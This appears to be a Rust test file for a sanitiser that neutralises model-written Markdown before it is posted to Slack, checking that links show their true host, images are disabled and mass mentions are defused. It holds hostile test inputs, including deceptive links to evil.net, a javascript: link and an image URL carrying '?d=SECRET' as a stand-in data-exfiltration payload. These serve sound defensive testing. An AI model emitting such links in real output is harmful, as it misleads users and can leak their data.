use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use super::{link, *};
use crate::view::{check, limits::width, rollover::Roller, text::BREAK};

fn bare(text: &str) -> String {
    text.replace(BREAK, "")
}

/// The links of a Markdown text: label, address, and what follows.
fn links(markdown: &str) -> Vec<(String, String, String)> {
    let mut links = Vec::new();
    // An address in angle brackets may be a link within a link's label.
    let mut open: Vec<(String, String)> = Vec::new();
    for (event, range) in Parser::new_ext(markdown, Options::ENABLE_TABLES).into_offset_iter() {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => open.push((String::new(), dest_url.into_string())),
            Event::Text(text) | Event::Code(text) => open.iter_mut().for_each(|(label, _)| label.push_str(&text)),
            Event::End(TagEnd::Link) => {
                let (label, address) = open.pop().unwrap();
                links.push((label, address, markdown[range.end..].to_owned()));
            }
            _ => {}
        }
    }
    links
}

/// A link whose label names another host than the one that it leads to, and that is not said after it.
fn lie(markdown: &str) -> Option<(String, String, String)> {
    links(markdown).into_iter().find(|(label, address, after)| {
        web(address).is_some_and(|url| {
            link::is_deceptive(label, Some(&url)) && !after.starts_with(&format!(" ({})", link::host(&url)))
        })
    })
}

fn images(markdown: &str) -> usize {
    Parser::new(markdown).filter(|event| matches!(event, Event::Start(Tag::Image { .. }))).count()
}

#[test]
fn plain_markdown_is_left_as_it_is() {
    let text = "# Title\n\n*a* **b** ~~c~~ `d <e> @here` \\* 1 < 2 && 3 > 2\n\n- x\n  - y\n1. z\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```rust\nlet x = v[0](1); // <T>\n```\n> quoted\n<https://example.com/a>\n";
    assert_eq!(neutral(text), text);
}

#[test]
fn a_link_says_where_it_leads() {
    let cases = [
        ("[docs](https://example.com/a)", "[docs](https://example.com/a) (example.com)"),
        ("[example.com](https://example.com/a)", "[example.com](https://example.com/a)"),
        ("[https://good.org](https://evil.net)", "[https://good.org](https://evil.net/) (evil.net)"),
        ("![p](https://evil.net/p.png)", "[p](https://evil.net/p.png) (evil.net)"),
        ("!![p](https://evil.net/p.png)", "[p](https://evil.net/p.png) (evil.net)"),
        ("[x](javascript:alert(1))", "[x]\u{200B}(javascript:alert(1))"),
        ("[x](readme.md)", "[x]\u{200B}(readme.md)"),
        ("[x](https://good.org@evil.net)", "[x]\u{200B}(https://good.org@evil.net)"),
        ("[r]: https://evil.net", "[r]\u{200B}: https://evil.net"),
        ("<https://evil.net|good.org>", "<\u{200B}https://evil.net|good.org>"),
        ("<!channel> <@U1> @here", "<\u{200B}!channel> <\u{200B}@U1> @\u{200B}here"),
        ("<slack://open>", "<\u{200B}slack://open>"),
    ];
    for (text, safe) in cases {
        assert_eq!(neutral(text), safe);
    }
}

#[test]
fn a_picture_whose_words_go_over_a_line_is_none() {
    let text = "![a\nb](https://evil.net/p.png?d=SECRET)";
    assert_eq!(neutral(text), "!\u{200B}[a\nb]\u{200B}(https://evil.net/p.png?d=SECRET)");
    // What is code for one reader is none for another.
    let bracketed = ["- ```\n![\\[a](https://evil.net/p.png)", "![`[`](https://evil.net/p.png)"];
    for text in bracketed.map(str::to_owned).into_iter().chain([format!("- ```\n{text}")]) {
        let safe = neutral(&text);
        assert!(images(&text) == 1 && images(&safe) == 0, "{safe:?}");
    }
    assert!(links(&neutral("[good.org\nor so](https://evil.net)")).is_empty());
    let (mut neutral, label) = (Neutral::default(), "long".repeat(600));
    let mut safe = neutral.feed(&format!("![{label}"));
    safe.push_str(&neutral.feed("](https://evil.net/p.png)"));
    safe.push_str(&neutral.finish());
    assert_eq!(images(&safe), 0, "{safe:?}");
}

#[test]
fn mrkdwn_says_what_the_markdown_says() {
    let text = "# Title **b**\n\nHello *you* & **me**, ~~not~~ `a<b` <!here>.\n[docs](https://example.com/?a=1&b=2)\n\n1. one\n2. two\n   - deep\n\n- [x] done\n\n> wise\n> words\n\n```sql\nSELECT '<@U1>' FROM t;\n```\n\n| Name | Count |\n|---|--:|\n| a | 1 |\n| longer | 22 |\n\n---\n![p](https://evil.net/p.png) [bad](javascript:x)";
    insta::assert_snapshot!("mrkdwn", mrkdwn(text));
}

#[test]
fn code_and_tables_are_opened_again_after_a_seam() {
    let code = format!("Before\n\n```rust\n{}```\nAfter", "let a = 1;\n".repeat(60));
    let pieces = split(&code, 300);
    assert!(pieces.len() > 2);
    for piece in &pieces[1..pieces.len() - 1] {
        assert!(piece.text.starts_with("```rust\n") && piece.text.ends_with("\n```"), "{}", piece.text);
    }
    let table = format!("| a | b |\n|---|---|\n{}", "| 1 | 2 |\n".repeat(60));
    for piece in split(&table, 300) {
        assert!(piece.text.starts_with("| a | b |\n|---|---|\n"), "{}", piece.text);
    }
}

#[test]
fn text_is_cut_between_paragraphs_where_it_can_be() {
    let text = format!("{}\n\n## Next\n{}", "word ".repeat(50), "more ".repeat(40));
    let pieces = split(&text, 400);
    assert!(pieces[1].text.starts_with("## Next"), "{pieces:?}");
}

#[test]
fn a_fence_whose_first_line_is_longer_than_a_message_hides_no_link() {
    let text = format!("```{}[https://good.org](https://evil.net)\n", "word <!here> ".repeat(100));
    for piece in split(&neutral(&text), 200) {
        assert_eq!(lie(&piece.text), None, "{}", piece.text);
    }
}

#[test]
fn a_link_is_not_cut_from_where_it_leads() {
    for (before, at) in ["x", "a "].into_iter().flat_map(|before| (0..200).map(move |at| (before, at))) {
        let text = format!("{}[https://good.org](https://evil.net) and {}", before.repeat(at), "more ".repeat(40));
        for piece in split(&neutral(&text), 200) {
            assert_eq!(lie(&piece.text), None, "{}", piece.text);
        }
        for piece in split(&mrkdwn(&text), 200) {
            assert!(!piece.text.replace("org> (evil.net)", "").contains("org>"), "{}", piece.text);
        }
    }
}

proptest! {
    #[test]
    fn pieces_fit_and_together_are_the_text(text in check::hostile(), max in 200_usize..3_000) {
        let pieces = split(&text, max);
        prop_assert_eq!(pieces.iter().map(Piece::body).collect::<String>(), text);
        for piece in pieces {
            prop_assert!(width(&piece.text) <= max, "{} of {max}", width(&piece.text));
        }
    }

    #[test]
    fn nothing_that_a_model_writes_calls_people_or_hides_where_it_leads(text in check::hostile()) {
        let safe = neutral(&text);
        prop_assert_eq!(check::control(&no_code_calls(&safe)), None, "{:?}", safe);
        prop_assert_eq!(images(&safe), 0, "{:?}", safe);
        for (label, address, after) in links(&safe) {
            let url = web(&address).or_else(|| address.contains('@').then(|| url::Url::parse("mailto:a@b.c").unwrap()));
            prop_assert!(url.is_some(), "{address} in {safe:?}");
            let url = url.unwrap();
            // What is code is not read alike by everybody: there only what lies is taken out.
            let is_shown = label == address
                || url.scheme() == "mailto"
                || (text.contains(['`', '~']) && !link::is_deceptive(&label, Some(&url)))
                || link::says_host(&label, &url)
                || after.starts_with(&format!(" ({})", link::host(&url)));
            prop_assert!(is_shown, "{label} → {address} in {safe:?}");
        }
    }

    #[test]
    fn whatever_the_pieces_of_a_stream_are_it_is_as_safe(text in check::hostile(), at in prop::collection::vec(any::<prop::sample::Index>(), 0..20)) {
        let mut ends: Vec<usize> = at.iter().map(|at| text.floor_char_boundary(at.index(text.len() + 1))).collect();
        ends.sort_unstable();
        let (mut neutral, mut safe, mut begin) = (Neutral::default(), String::new(), 0);
        for end in ends {
            safe.push_str(&neutral.feed(&text[begin..end]));
            begin = end;
        }
        safe.push_str(&neutral.feed(&text[begin..]));
        safe.push_str(&neutral.finish());
        prop_assert_eq!(check::control(&no_code_calls(&safe)), None, "{:?}", safe);
        prop_assert_eq!(images(&safe), 0, "{:?}", safe);
        prop_assert_eq!(lie(&safe), None, "{:?}", safe);
    }

    #[test]
    fn no_message_ends_before_it_says_where_its_links_lead(text in check::hostile(), max in 200_usize..3_000) {
        for piece in split(&neutral(&text), max) {
            prop_assert_eq!(lie(&piece.text), None, "{:?}", piece.text);
        }
        let (mut roller, mut stream) = (Roller::new(), String::new());
        roller.text(&text);
        roller.finish();
        while let Some(batch) = roller.batch() {
            stream.extend(batch.chunks.iter().filter_map(|chunk| chunk["text"].as_str()));
            prop_assert_eq!(lie(&stream), None, "{:?}", stream);
            if batch.rolls {
                stream.clear();
            }
            roller.sent();
        }
    }

    #[test]
    fn words_are_never_lost(words in prop::collection::vec("[a-z0-9]{1,12}[ \n]{1,2}", 0..200)) {
        let text = words.concat();
        prop_assert_eq!(bare(&neutral(&text)), &*text);
        let told: Vec<String> = mrkdwn(&text).split_whitespace().map(str::to_owned).collect();
        let said: Vec<&str> = text.split_whitespace().collect();
        prop_assert_eq!(told, said);
    }

    #[test]
    fn mrkdwn_has_all_that_the_markdown_says_and_no_control_sequence(text in check::hostile()) {
        let written = mrkdwn(&text);
        prop_assert_eq!(check::control(&no_code_calls(&written)), None, "{:?}", written);
        let mut rest = written.chars().filter(|c| c.is_alphanumeric());
        let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
        let mut said = String::new();
        for event in Parser::new_ext(&crate::view::text::clean(&text), options) {
            if let Event::Text(text) | Event::Code(text) = event {
                said.push_str(&text);
            }
        }
        for c in said.chars().filter(|c| c.is_alphanumeric()) {
            prop_assert!(rest.any(|other| other == c), "{c} of {said:?} in {written:?}");
        }
    }
}

/// In code `@here` stays, which is nobody there.
fn no_code_calls(text: &str) -> String {
    ["channel", "here", "everyone"].iter().fold(text.to_owned(), |text, call| text.replace(&format!("@{call}"), "at"))
}
